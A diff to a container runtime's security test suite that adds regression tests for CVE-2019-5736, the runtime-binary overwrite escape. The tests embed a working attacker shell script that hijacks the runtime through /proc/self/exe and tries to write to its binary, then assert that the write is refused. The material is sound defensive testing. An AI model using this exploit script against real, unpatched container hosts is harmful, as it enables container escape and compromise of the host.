@@ -1,5 +1,6 @@
 """Attacks on the runtime from inside the container or from a hostile
 rootfs; each must fail or stay confined to the container."""
+import json
 import os
 import subprocess
 
@@ -32,7 +33,8 @@ def test_runtime_binary_unreachable_through_proc_exe(env):
     started), a process of the container cannot open /proc/1/exe, the
     runtime's binary, nor see init's fds."""
     pid = _create(env)
-    assert os.path.realpath(f"/proc/{pid}/exe") == os.path.realpath(VESSEL)
+    # init runs vessel's binary, from its read-only copy (see below).
+    assert os.path.samestat(os.stat(f"/proc/{pid}/exe"), os.stat(VESSEL))
     r = env.vessel("exec", "c1", "/bin/sh", "-c",
                    "readlink /proc/1/exe && echo LINK; cat /proc/1/exe >/dev/null && echo READ; "
                    "ls /proc/1/fd/ >/dev/null 2>&1 && readlink /proc/1/fd/* && echo FDS; echo done")
@@ -60,6 +62,146 @@ def test_exec_helper_binary_unreachable(env):
     r = env.vessel("exec", "c1", "/bin/sh", "-c", "cat /tmp/leak 2>/dev/null || echo none")
     assert r.stdout.strip() == "none", r
     env.vessel("delete", "--force", "c1", check=True)
+
+
+# CVE-2019-5736 itself: the container makes the runtime execute itself
+# inside the container (an executable whose interpreter is /proc/self/exe),
+# keeps /proc/PID/exe of that process open, and once it has exited reopens
+# the binary for writing through /proc/self/fd.  The hijacked vessel is made
+# to block on a fifo (--log=/fifo as the script's interpreter argument) so
+# that the attacker has all the time it needs: the test is deterministic.
+# Every command runs a private copy of vessel, so a failure corrupts only it.
+
+ATTACKER = r"""
+mkfifo /fifo
+printf '#!/proc/self/exe --log=/fifo\n' > /evil
+chmod 755 /evil
+touch /m/armed
+while :; do
+  for d in /proc/[0-9]*; do
+    case "$(cat $d/cmdline 2>/dev/null | tr '\0' ' ')" in
+      /proc/self/exe\ --log=/fifo\ *) pid=${d#/proc/}; break 2;;
+    esac
+  done
+  sleep 0.02
+done
+exec 3< /proc/$pid/exe || { echo "open-exe-failed" > /m/result; exit 0; }
+echo "$(readlink /proc/$pid/exe)" > /m/exe
+exec 4< /fifo            # lets the hijacked runtime go on (and exit)
+while [ -d /proc/$pid ]; do sleep 0.02; done
+sleep 0.2
+if echo PWNED 2>/m/write-err >> /proc/self/fd/3; then echo "written" > /m/result
+else echo "write-refused" > /m/result; fi
+"""
+
+
+def _attack_setup(env):
+    import shutil
+    m = os.path.join(env.tmp, "m")
+    os.makedirs(m)
+    copy = os.path.join(env.tmp, "bin", "vessel")
+    os.makedirs(os.path.dirname(copy))
+    shutil.copy2(VESSEL, copy)
+    with open(copy, "rb") as f:
+        before = f.read()
+    env.config["mounts"].append({"destination": "/m", "type": "bind", "source": m,
+                                 "options": ["rbind", "rw"]})
+    # vessel is linked dynamically: give the container the host's loader
+    # and libraries (read-only) so that the hijacked runtime can run in it.
+    for lib in ("lib", "lib64"):
+        host = os.path.realpath("/" + lib)
+        env.config["mounts"].append({"destination": host, "type": "bind", "source": host,
+                                     "options": ["rbind", "ro"]})
+        if host != "/" + lib:
+            os.symlink(host.lstrip("/"), os.path.join(env.rootfs, lib))
+    env.config["root"]["readonly"] = False
+    return m, copy, before
+
+
+def _wait(path, timeout=30):
+    import time
+    end = time.time() + timeout
+    while time.time() < end:
+        if os.path.exists(path):
+            return True
+        time.sleep(0.02)
+    return False
+
+
+def _attack_verdict(m, copy, before, victim):
+    def rd(name):
+        try:
+            with open(os.path.join(m, name)) as f:
+                return f.read().strip()
+        except FileNotFoundError:
+            return None
+    with open(copy, "rb") as f:
+        after = f.read()
+    assert after == before, "the container rewrote the runtime binary (CVE-2019-5736)"
+    assert rd("result") == "write-refused", \
+        f"result {rd('result')!r}, write error {rd('write-err')!r}, exe {rd('exe')!r}"
+    # The attack did reach the runtime: it held the hijacked process's exe.
+    assert rd("exe") is not None, "the attacker never saw the hijacked runtime"
+    err = rd("write-err") or ""
+    # EROFS: the read-only clone; EPERM: the sealed memfd; EACCES: a binary
+    # the (rootless) container's ids may not write anyway.
+    assert any(e in err for e in ("Read-only file system", "Operation not permitted",
+                                  "Permission denied")), err
+    return err
+
+
+def test_cve_2019_5736_exec_hijack_cannot_rewrite_runtime(env):
+    """`exec` of a container executable whose interpreter is /proc/self/exe
+    runs vessel inside the container; its binary must not be writable."""
+    m, copy, before = _attack_setup(env)
+    env.config["process"]["args"] = ["/bin/sh", "-c", ATTACKER]
+    env.write_config()
+    log = os.path.join(env.tmp, "attack.log")
+    with open(log, "w") as f:
+        r = subprocess.run([copy, "--root", env.root, "run", "-d", "--bundle", env.bundle, "c1"],
+                           stdin=subprocess.DEVNULL, stdout=f, stderr=f, timeout=60)
+        assert r.returncode == 0, open(log).read()
+        try:
+            assert _wait(os.path.join(m, "armed")), open(log).read()
+            ex = subprocess.run([copy, "--root", env.root, "exec", "c1", "/evil"],
+                                stdin=subprocess.DEVNULL, stdout=f, stderr=f, timeout=60)
+            assert _wait(os.path.join(m, "result")), open(log).read()
+        finally:
+            subprocess.run([copy, "--root", env.root, "delete", "--force", "c1"],
+                           stdout=f, stderr=f, timeout=60)
+    assert ex.returncode != 0  # the hijacked vessel exits with an error
+    _attack_verdict(m, copy, before, "exec")
+
+
+def test_cve_2019_5736_init_hijack_cannot_rewrite_runtime(env):
+    """The same through a container's init: a second container joins the
+    attacker's pid namespace with /evil as its entrypoint."""
+    m, copy, before = _attack_setup(env)
+    cfg = json.loads(json.dumps(env.config))
+    env.config["process"]["args"] = ["/bin/sh", "-c", ATTACKER]
+    env.write_config()
+    log = os.path.join(env.tmp, "attack.log")
+    with open(log, "w") as f:
+        r = subprocess.run([copy, "--root", env.root, "run", "-d", "--bundle", env.bundle, "c1"],
+                           stdin=subprocess.DEVNULL, stdout=f, stderr=f, timeout=60)
+        assert r.returncode == 0, open(log).read()
+        try:
+            assert _wait(os.path.join(m, "armed")), open(log).read()
+            init = env.state("c1")["pid"]
+            cfg["process"]["args"] = ["/evil"]
+            cfg["linux"]["namespaces"] = [
+                ns if ns["type"] != "pid" else {"type": "pid", "path": f"/proc/{init}/ns/pid"}
+                for ns in cfg["linux"]["namespaces"]]
+            cfg["linux"]["cgroupsPath"] += "-2"
+            env.write_config(cfg)
+            subprocess.run([copy, "--root", env.root, "run", "--bundle", env.bundle, "c2"],
+                           stdin=subprocess.DEVNULL, stdout=f, stderr=f, timeout=60)
+            assert _wait(os.path.join(m, "result")), open(log).read()
+        finally:
+            for cid in ("c2", "c1"):
+                subprocess.run([copy, "--root", env.root, "delete", "--force", cid],
+                               stdout=f, stderr=f, timeout=60)
+    _attack_verdict(m, copy, before, "init")
 
 
 def test_dev_null_symlink_in_rootfs_is_replaced(env):
